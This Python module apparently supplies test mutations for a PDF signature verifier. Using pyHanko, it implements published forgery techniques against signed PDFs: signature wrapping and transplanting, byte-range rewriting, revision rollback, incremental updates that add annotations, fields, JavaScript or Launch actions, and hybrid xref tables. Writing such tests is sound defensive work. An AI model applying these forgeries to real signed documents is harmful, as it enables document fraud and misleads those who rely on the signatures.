"""Ways to change a sealed file without the keys, each as a function from bytes to bytes.

The attacks are those published on signed PDFs: universal forgery, incremental saving and
signature wrapping (CCS 2019), shadow documents (NDSS 2021), evil annotations and sneaky
signatures (S&P 2021); and the plain ones: roll back, append, edit in place.
"""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    NumberObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import BasePdfFileWriter

Forgery = Callable[[bytes], bytes]

RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]( *)")
END = re.compile(rb"startxref\s+\d+\s+%%EOF\n")


class Quiet(IncrementalPdfFileWriter):
    """An appended revision without pyHanko's own changes to the metadata."""

    def _update_meta(self) -> None:
        """Leave the metadata as it is."""


def appended(change: Callable[[BasePdfFileWriter], None], writer=Quiet) -> Forgery:
    """Append a revision with one change."""

    def forge(pdf: bytes) -> bytes:
        update = writer(BytesIO(pdf))
        change(update)
        out = BytesIO()
        update.write(out)
        return out.getvalue()

    return forge


def ends(pdf: bytes) -> list[int]:
    """Where each revision of a file ends."""
    return [found.end() for found in END.finditer(pdf)]


def cut_to(revision: int) -> Forgery:
    """Go back to an earlier revision: every signature left in it is a true one."""
    return lambda pdf: pdf[: ends(pdf)[revision]]


def replaced(old: bytes, new: bytes, count: int = -1) -> Forgery:
    """Edit in place, at the same length."""

    def forge(pdf: bytes) -> bytes:
        assert old in pdf
        assert len(old) == len(new)
        return pdf.replace(old, new, count)

    return forge


def ranges(numbers: str) -> Forgery:
    """Write another byte range into the first signature, padded to its length."""

    def forge(pdf: bytes) -> bytes:
        found = RANGE.search(pdf)
        text = f"/ByteRange [{numbers}]".encode().ljust(len(found[0]))
        return pdf[: found.start()] + text + pdf[found.end() :]

    return forge


def contents(digits: Callable[[bytes], bytes], which: int = 0) -> Forgery:
    """Write something else where a signature's bytes stand."""

    def forge(pdf: bytes) -> bytes:
        found = list(RANGE.finditer(pdf))[which]
        start, stop = int(found[2]) + 1, int(found[3]) - 1
        return pdf[:start] + digits(pdf[start:stop]).ljust(stop - start, b"0") + pdf[stop:]

    return forge


def wrapped(pdf: bytes) -> bytes:
    """Move the second signed range of the last signature down, and put own bytes between."""
    *_, found = RANGE.finditer(pdf)
    first, second, rest = (int(found[number]) for number in (2, 3, 4))
    own = b" " * 40
    text = f"/ByteRange [0 {first} {second + len(own)} {rest}]".encode().ljust(len(found[0]))
    moved = pdf[:second] + own + pdf[second:]
    return moved[: found.start()] + text + moved[found.end() :]


def transplanted(other: bytes, which: int = 0) -> Forgery:
    """Put the signature of another document into this one."""
    found = list(RANGE.finditer(other))[which]
    digits = other[int(found[2]) + 1 : int(found[3]) - 1]
    return contents(lambda own: digits[: len(own)], which)


def other_metadata(update: BasePdfFileWriter) -> None:
    """Replace the XMP metadata stream."""
    stream = update.root["/Metadata"]
    stream._data = stream.data.replace(b"INDIKATOR", b"REKAYASA ")
    stream._encoded_data = None
    update.mark_update(update.root.raw_get("/Metadata").reference)


def other_snapshot(update: BasePdfFileWriter) -> None:
    """Replace the attached data."""
    described = update.root["/Names"]["/EmbeddedFiles"]["/Names"][1]
    stream = described["/EF"]["/F"]
    stream._data = stream.data.replace(b"penetapan", b"pengukuran")
    stream._encoded_data = None
    update.mark_update(described["/EF"].raw_get("/F").reference)


def other_page(update: BasePdfFileWriter) -> None:
    """Draw something over the first page."""
    page = update.root["/Pages"]["/Kids"][0]
    stream = page["/Contents"]
    stream = stream[0] if isinstance(stream, ArrayObject) else stream
    stream._data = stream.data + b"\nq 1 0 0 rg 0 0 300 300 re f Q"
    stream._encoded_data = None
    update.mark_update(stream.container_ref)


def annotation(update: BasePdfFileWriter) -> None:
    """Lay a note over the page."""
    page_ref, _ = update.find_page_for_modification(0)
    note = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): ArrayObject(map(NumberObject, (0, 0, 400, 400))),
            pdf_name("/Contents"): pdf_string("Disetujui"),
        }
    )
    update.register_annotation(page_ref, update.add_object(note))


def link(update: BasePdfFileWriter) -> None:
    """Add a link to somewhere else."""
    page_ref, _ = update.find_page_for_modification(0)
    action = {pdf_name("/S"): pdf_name("/URI"), pdf_name("/URI"): pdf_string("https://x.test")}
    mark = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Link"),
            pdf_name("/Rect"): ArrayObject(map(NumberObject, (0, 0, 400, 400))),
            pdf_name("/A"): DictionaryObject(action),
        }
    )
    update.register_annotation(page_ref, update.add_object(mark))


def in_catalogue(key: str, value: dict[str, str] | str) -> Callable[[BasePdfFileWriter], None]:
    """Add an entry to the catalogue."""

    def change(update: BasePdfFileWriter) -> None:
        made = (
            DictionaryObject({pdf_name(name): pdf_name(to) for name, to in value.items()})
            if isinstance(value, dict)
            else pdf_name(value)
        )
        update.root[pdf_name(key)] = made
        update.update_root()

    return change


def form_field(kind: str) -> Callable[[BasePdfFileWriter], None]:
    """Add a further form field."""

    def change(update: BasePdfFileWriter) -> None:
        field = DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name(kind),
                pdf_name("/T"): pdf_string("Tambahan"),
                pdf_name("/Rect"): ArrayObject(map(NumberObject, (0, 0, 400, 400))),
            }
        )
        page_ref, _ = update.find_page_for_modification(0)
        reference = update.add_object(field)
        update.register_annotation(page_ref, reference)
        form = update.root["/AcroForm"]
        form["/Fields"].append(reference)
        update.update_container(form["/Fields"])
        update.mark_update(update.root.raw_get("/AcroForm").reference)

    return change


def field_removed(update: BasePdfFileWriter) -> None:
    """Take a signature field out of the form."""
    form = update.root["/AcroForm"]
    del form["/Fields"][1]
    update.mark_update(update.root.raw_get("/AcroForm").reference)


def signature_emptied(update: BasePdfFileWriter) -> None:
    """Take a signature out of its field."""
    field = update.root["/AcroForm"]["/Fields"][0]
    del field["/V"]
    update.mark_update(update.root["/AcroForm"]["/Fields"].raw_get(0).reference)


def orphan(update: BasePdfFileWriter) -> None:
    """Add an object that nothing refers to."""
    update.add_object(pdf_string("menunggu"))


def hybrid(pdf: bytes) -> bytes:
    """Append a classical table that sends other readers to another list."""
    last = PdfFileReader(BytesIO(pdf)).last_startxref
    size = PdfFileReader(BytesIO(pdf)).trailer["/Size"]
    root = PdfFileReader(BytesIO(pdf)).root_ref.idnum
    table = f"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size {size}/Root {root} 0 R"
    table += f"/Prev {last}/XRefStm {last}>>\nstartxref\n{len(pdf)}\n%%EOF\n"
    return pdf + table.encode()


IN_PLACE: dict[str, Forgery] = {
    "a byte appended": lambda pdf: pdf + b"\n",
    "a comment appended": lambda pdf: pdf + b"% disetujui\n",
    "an object appended without a list": lambda pdf: pdf + b"9999 0 obj\n(x)\nendobj\n",
    "a second end": lambda pdf: pdf + pdf[-40:],
    "a byte before the header": lambda pdf: b"\n" + pdf,
    "the last byte cut": lambda pdf: pdf[:-1],
    "cut in the middle": lambda pdf: pdf[: len(pdf) // 2],
    "byte range of zeros": ranges("0 0 0 0"),
    "byte range empty": ranges(""),
    "byte range negative": ranges("0 -1 9 -1"),
    "byte range of two": ranges("0 100"),
    "byte range beyond the file": ranges("0 100 200 999999999"),
    "byte range renamed": replaced(b"/ByteRange", b"/ByteRangx"),
    "contents renamed": replaced(b"/Contents <", b"/Contentx <"),
    "contents of zeros": contents(lambda digits: b"0" * len(digits)),
    "contents empty": contents(lambda digits: b" " * len(digits)),
    "contents of the timestamp zeroed": contents(lambda digits: b"0" * len(digits), -1),
    "contents in small letters": contents(bytes.lower, -1),
    "signature wrapped": wrapped,
    "a hybrid list": hybrid,
    **{f"cut to revision {number}": cut_to(number) for number in range(5)},
}
"""Changes to the bytes themselves."""

APPENDED: dict[str, Forgery] = {
    "an empty revision": appended(lambda update: update.update_root()),
    "another title": appended(lambda update: update.update_root(), IncrementalPdfFileWriter),
    "other metadata": appended(other_metadata),
    "another snapshot": appended(other_snapshot),
    "another page": appended(other_page),
    "a note": appended(annotation),
    "a link": appended(link),
    "a script": appended(in_catalogue("/OpenAction", {"/S": "/JavaScript"})),
    "an action": appended(in_catalogue("/AA", {"/WC": "/Launch"})),
    "layers": appended(in_catalogue("/OCProperties", {"/D": "/Off"})),
    "a text field": appended(form_field("/Tx")),
    "a signature field": appended(form_field("/Sig")),
    "a field removed": appended(field_removed),
    "a signature emptied": appended(signature_emptied),
    "an orphan": appended(orphan),
}
"""Revisions appended after the seal, or between two signatures."""
